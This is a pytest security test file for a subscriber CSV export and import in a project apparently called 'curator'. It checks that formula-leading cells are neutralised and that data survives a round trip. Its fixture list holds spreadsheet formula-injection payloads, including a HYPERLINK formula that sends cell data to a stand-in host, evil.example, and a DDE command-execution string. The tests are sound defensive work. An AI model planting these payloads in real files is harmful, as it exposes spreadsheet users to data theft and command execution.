"""CSV export must not hand a spreadsheet a formula, and the import reads its own exports back unchanged."""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import select

from curator import subscribers
from curator.store.schema import subscribers as subscriber_rows
from tests.security.helpers import cli

HOSTILE = [
    ("=cmd@example.com", '=HYPERLINK("https://evil.example/?x="&A1,"Click")'),
    ("+1@example.com", "+SUM(1+1)"),
    ("-2@example.com", "-2+3+cmd|' /C calc'!A0"),
    ("plain@example.com", "@SUM(1)"),
    ("quote@example.com", "'=already quoted"),
    ("ada@example.com", "Ada Lovelace"),
]


@pytest.fixture
def env(settings):
    return {"CURATOR_DATABASE_URL": settings.database_url, "CURATOR_SECRET_KEY": settings.secret_key}


def _people(engine) -> set[tuple[str, str]]:
    with engine.connect() as conn:
        return {(r.email, r.name) for r in conn.execute(select(subscriber_rows.c.email, subscriber_rows.c.name))}


def test_no_exported_cell_starts_a_formula(engine, env, tmp_path):
    with engine.begin() as conn:
        for email, name in HOSTILE:
            subscribers.add(conn, email, name=name)
    out = tmp_path / "people.csv"
    result = cli("subscribers", "export", str(out), env=env)
    assert result.exit_code == 0, result.output
    cells = [cell for row in csv.reader(io.StringIO(out.read_text())) for cell in row]
    assert cells and not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'=HYPERLINK(" in out.read_text() and "Ada Lovelace" in out.read_text()


def test_the_import_reads_its_own_export_back(engine, env, tmp_path):
    with engine.begin() as conn:
        for email, name in HOSTILE:
            subscribers.add(conn, email, name=name)
    before = _people(engine)
    out = tmp_path / "people.csv"
    assert cli("subscribers", "export", str(out), env=env).exit_code == 0
    with engine.begin() as conn:
        for email, _ in HOSTILE:
            subscribers.forget(conn, email)
    result = cli("subscribers", "import", str(out), env=env)
    assert result.exit_code == 0, result.output
    assert _people(engine) == before
